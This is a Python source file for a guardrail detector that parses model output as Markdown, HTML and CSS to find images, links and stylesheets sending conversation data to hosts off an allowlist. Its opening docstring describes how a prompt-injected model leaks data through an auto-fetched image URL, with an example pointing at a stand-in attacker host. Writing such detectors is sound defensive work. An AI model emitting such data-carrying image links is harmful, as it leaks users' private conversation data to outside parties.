"""Data leaving through links and images in model output, found as the renderer finds them.

A prompt-injected model can leak conversation data by writing an image whose URL carries it
(`![](https://evil.example/p?q=<data>)`): the chat client fetches the image as it renders, so no
click is needed. Links need a click but still carry data.

The detector reads the output the way a Markdown renderer with HTML enabled does, with parsers
made for each layer, never with patterns that approximate them:

- Markdown: the CommonMark reference implementation (cmark-gfm, GitHub's, through cmarkgfm),
  raw HTML kept: inline and reference-style images and links, angle-bracket destinations, titles,
  nested brackets and multi-line alt text resolve as the renderer resolves them; code spans and
  blocks render nothing and fetch nothing. (A pure-Python parser cost 30 times as much.)
- HTML, inline or in blocks: an HTML5 parser (lexbor, through selectolax), entities decoded as a
  browser decodes them; every element and attribute that makes a browser fetch on its own
  (`img`, `source`, `video`, `object`, `embed`, `iframe`, SVG `image`, `link`, `meta` refresh,
  `background`, `srcset`, ...) or on a click (`a`, `area`, `form`); and CSS (style attributes and
  `<style>` blocks, through tinycss2): `url()`, `image-set()` and `@import`.
- URLs: the WHATWG URL standard (ada-url), which browsers implement: `http:evil.example`,
  backslashes, percent-encoded or fullwidth hosts and protocol-relative URLs name the host the
  browser will contact. A `<base href>` off the allowlist redirects every relative URL after it,
  so it is reported as an image would be.

Hosts are judged against the bundle's allowlist (`setup.allowed_hosts`, `*.example.com` allows
subdomains). Scores: what is fetched without a click is high risk on its own (0.7) and higher when
its URL carries data (0.95); a link carrying data scores 0.7, a plain link 0.2. Bare URLs in prose
are text (no fetch, no link). A finding's span is the Markdown block it stands in (the renderer
keeps source positions per block; a raw HTML block has none, so its span is the whole text), so
a redaction or a stream's release never cuts inside it. `detail` names
the host and why the URL looks like it carries data, never the data itself.
"""

from __future__ import annotations

import ctypes
import functools
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any, ClassVar
from urllib.parse import parse_qsl, unquote

import ada_url
import tinycss2
from cmarkgfm import _cmark
from cmarkgfm.cmark import Options
from pydantic import BaseModel
from selectolax.lexbor import LexborHTMLParser

from vallum.detectors.base import Detector, DetectorSetup
from vallum.model import Finding, Stage

IMAGE_SCORE = 0.7
IMAGE_WITH_DATA_SCORE = 0.95
LINK_SCORE = 0.2
LINK_WITH_DATA_SCORE = 0.7
DATA_VALUE_MIN = 12
DATA_PATH_SEGMENT_MIN = 24
# Relative URLs are resolved against these pages: they stay on the page's own origin (so they
# fetch nothing elsewhere) and are recognised by it.
_PAGES = ("https://page.invalid/", "http://page.invalid/")
_PARTS = ("protocol", "hostname", "pathname", "search", "hash")
REMOTE_CACHE = 4096  # URLs remembered per detector
_REMOTE_SCHEMES = frozenset({"http:", "https:", "ftp:", "ws:", "wss:"})
_ENCODED = re.compile(r"[A-Za-z0-9+/_-]{20,}={0,2}|(?:%[0-9A-Fa-f]{2}){4,}|[0-9a-fA-F]{24,}")
# The attributes a browser fetches from without a click, by element; `*` for any element.
_FETCHED = {
    "img": ("src", "srcset", "lowsrc", "longdesc"),
    "image": ("href", "xlink:href", "src"),
    "source": ("src", "srcset"),
    "video": ("src", "poster"),
    "audio": ("src",),
    "track": ("src",),
    "iframe": ("src",),
    "frame": ("src",),
    "embed": ("src",),
    "object": ("data", "codebase"),
    "input": ("src",),
    "script": ("src",),
    "link": ("href", "imagesrcset"),
    "use": ("href", "xlink:href"),
    "feimage": ("href", "xlink:href"),
    "base": ("href",),
    "*": ("background",),
}
_CLICKED = {"a": ("href", "ping"), "area": ("href", "ping"), "form": ("action",)}
_REFRESH_URL = re.compile(r"url\s*=\s*['\"]?([^'\"]+)", re.I)
_NEWLINE = re.compile("\n")
_SOURCEPOS = re.compile(r"(\d+):\d+-(\d+):\d+")
# Raw HTML kept (a renderer with HTML on), and source positions for each block's span.
_CMARK_OPTIONS = Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_SOURCEPOS
# cmark hands back its HTML in a buffer from the C library's malloc that the caller must free;
# `cmarkgfm.markdown_to_html` never does (cmarkgfm issue 53): two bytes leaked per byte of
# output checked, and the cost per KB of a megabyte grew with every fresh page. Freed here.
_free = ctypes.CDLL(None).free
_free.argtypes, _free.restype = [ctypes.c_void_p], None


def markdown_to_html(text: str) -> str:
    """The HTML cmark-gfm renders `text` to (raw HTML kept, source positions on), its buffer
    freed."""
    encoded = text.encode("utf-8")
    raw = _cmark.lib.cmark_markdown_to_html(encoded, len(encoded), _CMARK_OPTIONS)
    if raw == _cmark.ffi.NULL:
        raise MemoryError("cmark could not allocate its output")
    try:
        return str(_cmark.ffi.string(raw).decode("utf-8"))
    finally:
        _free(int(_cmark.ffi.cast("uintptr_t", raw)))


@dataclass(frozen=True, slots=True)
class _Remote:
    host: str
    data_reason: str | None


@dataclass(frozen=True, slots=True)
class _Ref:
    remote: _Remote  # where it leads (looked up once: a text with more URLs than the cache
    start: int  # holds would otherwise miss twice per URL)
    end: int
    fetched: bool  # fetched without a click (an image, a stylesheet, a frame, ...)


def host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    """Whether `host` matches an allowlist entry (`example.com` or `*.example.com`)."""
    host = host.lower().rstrip(".")
    for entry in allowed:
        entry = entry.lower().rstrip(".")
        if entry.startswith("*."):
            if host.endswith(entry[1:]):
                return True
        elif host == entry:
            return True
    return False


def data_reason(url: Mapping[str, Any]) -> str | None:
    """Why a URL (its WHATWG parts) looks like it carries data (None if it does not). Never
    includes the data."""
    query = str(url["search"]).removeprefix("?")
    for _, value in parse_qsl(query, keep_blank_values=True):
        if len(value) >= DATA_VALUE_MIN or _ENCODED.search(value):
            return f"query value of {len(value)} chars"
    if query and len(query) >= DATA_VALUE_MIN and "=" not in query:
        return f"query of {len(query)} chars"
    for segment in str(url["pathname"]).split("/"):
        decoded = unquote(segment)
        if len(segment) >= DATA_PATH_SEGMENT_MIN or _ENCODED.fullmatch(segment):
            return f"path segment of {len(decoded)} chars"
        if " " in decoded and len(decoded) >= DATA_VALUE_MIN:
            return "path segment with encoded text"
    fragment = str(url["hash"]).removeprefix("#")
    if len(fragment) >= DATA_PATH_SEGMENT_MIN:
        return f"fragment of {len(fragment)} chars"
    return None


class ExfiltrationDetector(Detector):
    """Finds images, frames, stylesheets and links that send data to hosts off the allowlist."""

    id: ClassVar[str] = "exfiltration"
    version: ClassVar[str] = "2"
    stages: ClassVar[frozenset[Stage]] = frozenset({Stage.OUTPUT, Stage.TOOL_CALL})
    description: ClassVar[str] = (
        "Markdown, HTML and CSS references (as a renderer parses them) that send data to a host "
        "off the allowlist"
    )
    normalized: ClassVar[bool] = False  # reads the text as it is delivered

    def __init__(self, options: BaseModel | None = None, setup: DetectorSetup | None = None):
        super().__init__(options, setup)
        self._allowed = tuple(self.setup.allowed_hosts)
        # Where a URL leads depends on nothing but the URL and the allowlist: a stream's windows
        # and a conversation's answers repeat the same URLs, so each is parsed once.
        self._remote = functools.lru_cache(maxsize=REMOTE_CACHE)(self._where)

    def detect(self, text: str, stage: Stage) -> list[Finding]:
        if inert(text):
            return []
        findings = [self._check(ref) for ref in self._references(text)]
        findings.sort(key=lambda f: (f.start, f.end))
        return findings

    def _references(self, text: str) -> Iterator[_Ref]:
        """The text rendered to HTML as a Markdown renderer with HTML on would, then read as a
        browser reads that HTML, in document order (so an SVG `<image>` inside raw `<svg>` is
        SVG's, a Markdown image is the `<img>` it becomes, and a `<base href>` applies to what
        follows it)."""
        html = markdown_to_html(text)
        base: str | None = None
        lines: list[int] = []  # where each line starts: worked out once, when first needed
        for node, url, fetched, is_base in _html_references(html):
            if is_base:
                base = url
            remote = self._remote(_resolve_base(url, base, is_base).strip())
            if remote is None:  # relative, data:, mailto:, allowlisted: fetched from nowhere else
                continue
            lines = lines or _line_starts(text)
            yield _Ref(remote, *_span(node, lines, len(text)), fetched)

    def _where(self, raw: str) -> _Remote | None:
        """Where a browser fetches `raw` from, when that is a host off the allowlist: on an
        https page or an http one (`https:host` is relative on the first, remote on the other)."""
        for page in _PAGES:
            try:
                href = ada_url.join_url(page, raw)
                parts = ada_url.parse_url(href, attributes=_PARTS)
            except ValueError:
                return None  # no URL a browser would fetch
            if href.startswith(page) or parts["protocol"] not in _REMOTE_SCHEMES:
                continue  # on the page's own origin, or data:, mailto:, javascript: ...
            host = str(parts["hostname"])
            if host and not host_allowed(host, self._allowed):
                return _Remote(host, data_reason(parts))
        return None

    def _check(self, ref: _Ref) -> Finding:
        host, reason = ref.remote.host, ref.remote.data_reason
        if ref.fetched:
            score = IMAGE_WITH_DATA_SCORE if reason else IMAGE_SCORE
        else:
            score = LINK_WITH_DATA_SCORE if reason else LINK_SCORE
        what = "image" if ref.fetched else "link"
        detail = f"{what} to non-allowlisted host {host}"
        if reason:
            detail += f" carrying data ({reason})"
        return Finding(
            detector=self.id,
            type="exfiltration.markdown_image" if ref.fetched else "exfiltration.link",
            score=score,
            start=ref.start,
            end=ref.end,
            labels=(),
            detail=detail,
        )


def inert(text: str) -> bool:
    """Whether `text` provably renders to nothing that fetches or links, so the parsers need
    not run (a sufficient condition; False says nothing).

    A Markdown link or image needs `](`, `][` or a reference definition's `]:` (a shortcut
    reference `[x]` needs its definition). Raw HTML inline (a tag, comment, declaration) and an
    autolink end with `>`. Without `>`, raw HTML reaches the page only as an HTML block (types
    1-6 of CommonMark, which a later `>` of the renderer's own output could close), and those
    start a line, after at most indentation and list markers: so a `<` preceded on its line by
    any other character starts nothing. cmark's own HTML for the rest (paragraphs, headings,
    lists, code, emphasis) has no attribute a browser fetches from. So a text with none of
    `](`, `][`, `]:`, and either no `<` or no `>` and no `<` where a block could start, is
    inert: prose with `a < b`, or a long line of unclosed markup, skips cmark entirely."""
    if "](" in text or "]:" in text or "][" in text:
        return False
    return "<" not in text or (">" not in text and _BLOCK_START.search(text) is None)


# A `<` with only indentation and list markers (`-`, `+`, `*`, `1.`, `1)`) before it on its
# line (ended by LF, CR or both): where an HTML block may start (a block quote's `>` is ruled
# out by the caller). Linear: `^` fails at once except at a line start.
_BLOCK_START = re.compile(r"(?:^|\r)[ \t\-+*0-9.)]*<", re.M)  # CR ends a line too


def _line_starts(text: str) -> list[int]:
    return [0, *(m.end() for m in _NEWLINE.finditer(text))]


def _span(node: Any, lines: list[int], size: int) -> tuple[int, int]:
    """The characters of the Markdown block `node` was rendered from (its nearest ancestor with
    cmark's `data-sourcepos="L:C-L:C"`), or the whole text where there is none (raw HTML)."""
    while node is not None:
        found = _SOURCEPOS.fullmatch(str((node.attributes or {}).get("data-sourcepos") or ""))
        if found:
            first, last = int(found.group(1)) - 1, int(found.group(2))
            if 0 <= first < len(lines):
                return lines[first], lines[last] if last < len(lines) else size
        node = node.parent
    return 0, size


def _html_references(html: str) -> Iterator[tuple[Any, str, bool, bool]]:
    """(node, url, fetched without a click, is a `<base href>`) for every reference in HTML."""
    tree = LexborHTMLParser(html)
    for node in tree.root.traverse() if tree.root is not None else ():
        tag = (node.tag or "").lower()
        attributes: dict[str, Any] = node.attributes
        for name in (*_FETCHED.get(tag, ()), *_FETCHED["*"]):
            for url in _attribute_urls(name, attributes.get(name)):
                yield node, url, True, tag == "base"
        for name in _CLICKED.get(tag, ()):
            for url in _attribute_urls(name, attributes.get(name)):
                yield node, url, False, False
        if tag == "meta" and str(attributes.get("http-equiv") or "").lower() == "refresh":
            found = _REFRESH_URL.search(str(attributes.get("content") or ""))
            if found:
                yield node, found.group(1), True, False
        if attributes.get("style"):
            for url in _css_urls(tinycss2.parse_declaration_list(str(attributes["style"]))):
                yield node, url, True, False
        if tag == "style":
            for url in _css_urls(tinycss2.parse_stylesheet(node.text() or "")):
                yield node, url, True, False


def _attribute_urls(name: str, value: Any) -> list[str]:
    if not isinstance(value, str) or not value.strip():
        return []
    if name.endswith("srcset"):  # "url 1x, url 2x": each candidate is fetched by some browser
        return [part.split()[0] for part in value.split(",") if part.split()]
    return [value]


def _css_urls(nodes: list[Any]) -> Iterator[str]:
    """Every URL a stylesheet or declaration list would load: url(), image-set(), @import."""
    for node in nodes:
        kind = getattr(node, "type", "")
        if kind == "url":
            yield str(node.value)
        elif kind == "function" and node.lower_name in ("url", "src", "image-set", "image"):
            yield from (str(arg.value) for arg in node.arguments if arg.type == "string")
        elif kind == "at-rule" and node.lower_at_keyword == "import":
            yield from (str(part.value) for part in node.prelude if part.type == "string")
        for children in ("value", "content", "prelude", "arguments"):
            inner = getattr(node, children, None)
            if isinstance(inner, list):
                yield from _css_urls(inner)


def _resolve_base(url: str, base: str | None, is_base: bool) -> str:
    """A relative URL after a `<base href>` goes where the base says (the base itself as is)."""
    if is_base or base is None:
        return url
    try:
        return str(ada_url.join_url(ada_url.join_url(_PAGES[0], base), url))
    except ValueError:
        return url
